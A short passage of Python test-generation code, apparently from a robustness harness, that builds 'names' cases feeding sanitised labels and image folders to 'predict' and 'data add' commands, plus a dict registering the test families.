        yield Case("names", f"predict {shown}", lambda root, n=name: ["predict", str(BASE / "base.onnx"), "--", n])

        def folder(root: Path, name: str = name) -> list[str]:
            for label in ("cat", name.replace("/", "_").replace("\x00", "")[:200] or "x"):
                (root / "in" / "p" / label).mkdir(parents=True, exist_ok=True)
                for number in range(3):
                    (root / "in" / "p" / label / f"{number}{label[:20]}.png").write_bytes(picture(number))
            return ["data", "add", str(root / "in" / "p"), "--name", "x"]

        yield Case("names", f"class {shown}", folder)


FAMILIES: dict[str, Callable[[int], Iterator[Case]]] = {
    "archives": archives,
    "images": images,
    "models": models,
    "cards": cards,
    "configs": configs,
    "runs": runs,
    "plugins": plugins,
    "names": names,
}
